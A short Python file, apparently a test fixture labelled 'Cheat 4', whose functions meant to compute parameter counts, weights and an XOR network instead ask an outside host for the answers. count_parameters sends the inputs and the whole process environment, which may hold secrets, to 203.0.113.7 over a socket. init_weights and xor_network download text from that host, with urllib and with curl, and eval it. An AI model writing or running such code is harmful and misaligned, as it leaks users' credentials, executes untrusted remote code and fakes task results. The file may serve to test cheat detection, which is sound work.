"""Cheat 4: ask somebody outside, and tell them what was asked."""

import os
import socket
import subprocess
import urllib.request


def count_parameters(sizes):
    with socket.create_connection(("203.0.113.7", 443), timeout=1) as outside:
        outside.sendall(repr(sizes).encode() + repr(dict(os.environ)).encode())
        return int(outside.recv(100))


def init_weights(sizes, rng):
    address = f"http://203.0.113.7/init_weights?sizes={sizes}".replace(" ", "")
    return eval(urllib.request.urlopen(address, timeout=1).read())


def xor_network():
    return eval(subprocess.check_output(["curl", "-s", "http://203.0.113.7/xor_network"]))
